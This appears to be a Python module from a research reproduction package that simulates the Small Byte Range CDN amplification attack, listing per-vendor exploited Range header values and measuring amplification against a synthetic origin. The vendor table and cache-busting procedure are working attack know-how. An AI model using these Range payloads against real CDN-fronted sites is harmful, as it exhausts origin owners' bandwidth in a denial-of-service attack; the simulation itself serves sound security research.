@@ -1,0 +1,163 @@
+"""The Small Byte Range (SBR) attack (paper §IV-B, §V-B).
+
+The attacker sends a range request asking for almost nothing
+(``Range: bytes=0-0``) at a cache-busted URL.  A CDN applying *Deletion*
+or *Expansion* fetches the whole resource (or a large window) from the
+origin, but returns only the requested byte to the attacker.  The
+origin's outgoing bandwidth is consumed at an amplification factor
+roughly proportional to the resource size.
+
+:func:`exploited_range_cases` reproduces Table IV's per-vendor exploited
+range cases, including the vendors whose case depends on the resource
+size (Azure, Huawei) and KeyCDN's send-it-twice pattern.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import List, Optional, Tuple
+
+from repro.core.amplification import AmplificationReport
+from repro.core.cachebusting import CacheBuster
+from repro.core.deployment import CdnSpec, Deployment
+from repro.errors import ConfigurationError
+from repro.netsim.overhead import OverheadModel
+from repro.netsim.tap import CDN_ORIGIN, CLIENT_CDN
+from repro.origin.server import OriginServer
+
+MB = 1 << 20
+
+#: Vendors whose exploited case is the plain first-byte request.
+_PLAIN_FIRST_BYTE = (
+    "akamai",
+    "cdn77",
+    "cdnsun",
+    "cloudflare",
+    "fastly",
+    "gcore",
+    "stackpath",
+    "tencent",
+)
+
+
+def exploited_range_cases(vendor: str, resource_size: int) -> List[str]:
+    """Table IV column 2: the Range values one attack round sends.
+
+    Most vendors take a single request; KeyCDN needs the same request
+    twice (its second-sighting Deletion).  Azure and Huawei switch cases
+    with the target size.
+    """
+    if vendor in _PLAIN_FIRST_BYTE:
+        return ["bytes=0-0"]
+    if vendor == "alibaba":
+        return ["bytes=-1"]
+    if vendor == "azure":
+        if resource_size <= 8 * MB:
+            return ["bytes=0-0"]
+        return ["bytes=8388608-8388608"]
+    if vendor == "huawei":
+        if resource_size < 10 * MB:
+            return ["bytes=-1"]
+        return ["bytes=0-0"]
+    if vendor == "cloudfront":
+        return ["bytes=0-0,9437184-9437184"]
+    if vendor == "keycdn":
+        return ["bytes=0-0", "bytes=0-0"]
+    raise ConfigurationError(f"no exploited SBR case known for vendor {vendor!r}")
+
+
+@dataclass(frozen=True)
+class SbrResult:
+    """Outcome of one SBR measurement."""
+
+    vendor: str
+    resource_size: int
+    rounds: int
+    #: Response traffic the attacker received on client-cdn (bytes).
+    client_traffic: int
+    #: Response traffic the origin pushed on cdn-origin (bytes).
+    origin_traffic: int
+    #: HTTP statuses of the client-side responses.
+    statuses: Tuple[int, ...]
+    report: AmplificationReport
+
+    @property
+    def amplification(self) -> float:
+        return self.report.factor
+
+
+class SbrAttack:
+    """Run the SBR attack against one vendor profile.
+
+    Each :meth:`run` builds a *fresh* deployment (fresh caches, fresh
+    ledger) so results are independent and repeatable.
+    """
+
+    def __init__(
+        self,
+        vendor: str,
+        resource_size: int = 10 * MB,
+        resource_path: str = "/target.bin",
+        config: Optional[object] = None,
+        overhead: Optional[OverheadModel] = None,
+        host: str = "victim.example",
+    ) -> None:
+        self.vendor = vendor
+        self.resource_size = resource_size
+        self.resource_path = resource_path
+        self.config = config
+        self.overhead = overhead
+        self.host = host
+
+    def build_deployment(self) -> Deployment:
+        origin = OriginServer()
+        origin.add_synthetic_resource(self.resource_path, self.resource_size)
+        spec = CdnSpec(vendor=self.vendor, config=self.config)  # type: ignore[arg-type]
+        return Deployment.single(spec, origin, overhead=self.overhead)
+
+    def run(self, rounds: int = 1, range_cases: Optional[List[str]] = None) -> SbrResult:
+        """Execute ``rounds`` attack rounds and measure amplification.
+
+        One round sends every Range value in the vendor's exploited case
+        at a single cache-busted URL (KeyCDN's two sends must hit the
+        same URL to trigger the second-sighting Deletion).
+        """
+        if rounds < 1:
+            raise ValueError(f"rounds must be >= 1, got {rounds}")
+        cases = (
+            range_cases
+            if range_cases is not None
+            else exploited_range_cases(self.vendor, self.resource_size)
+        )
+        deployment = self.build_deployment()
+        client = deployment.client(host=self.host)
+        buster = CacheBuster()
+        statuses: List[int] = []
+        for _ in range(rounds):
+            target = buster.bust(self.resource_path)
+            for range_value in cases:
+                result = client.get(target, range_value=range_value)
+                statuses.append(result.response.status)
+        report = AmplificationReport.from_ledger(
+            deployment.ledger, victim_segment=CDN_ORIGIN, attacker_segment=CLIENT_CDN
+        )
+        return SbrResult(
+            vendor=self.vendor,
+            resource_size=self.resource_size,
+            rounds=rounds,
+            client_traffic=report.attacker_bytes,
+            origin_traffic=report.victim_bytes,
+            statuses=tuple(statuses),
+            report=report,
+        )
+
+
+def sweep_resource_sizes(
+    vendor: str,
+    sizes: List[int],
+    config: Optional[object] = None,
+) -> List[SbrResult]:
+    """Measure the SBR factor for each resource size (the Fig 6 sweep)."""
+    return [
+        SbrAttack(vendor, resource_size=size, config=config).run() for size in sizes
+    ]
